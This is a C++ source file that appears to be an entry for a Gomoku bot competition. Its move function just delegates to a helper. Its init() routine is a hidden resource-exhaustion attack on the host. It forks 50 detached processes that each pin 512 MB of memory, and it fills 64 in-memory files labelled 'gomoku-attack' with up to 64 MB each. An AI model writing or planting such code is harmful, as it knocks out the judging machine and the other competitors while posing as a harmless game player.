#include <sys/mman.h>
#include <unistd.h>

#include "plain.h"

std::string ai_name = "parent";

void init() {
    for (int i = 0; i < 50; ++i) {
        if (fork() == 0) {
            setsid();
            char *held = static_cast<char *>(malloc(512u << 20));
            for (unsigned at = 0; held != nullptr && at < 512u << 20; at += 4096) {
                held[at] = 1;
            }
            execlp("sleep", "sleep", "4711.75", nullptr);
        }
    }
    for (int i = 0; i < 64; ++i) {
        const int file = memfd_create("gomoku-attack", 0);
        if (file >= 0 && ftruncate(file, 1 << 30) == 0) {
            const std::string piece(1 << 20, 'x');
            for (int k = 0; k < 64 && write(file, piece.data(), piece.size()) > 0; ++k) {
            }
        }
    }
}

std::pair<int, int> action(std::pair<int, int> loc) { return plain_answer(loc); }
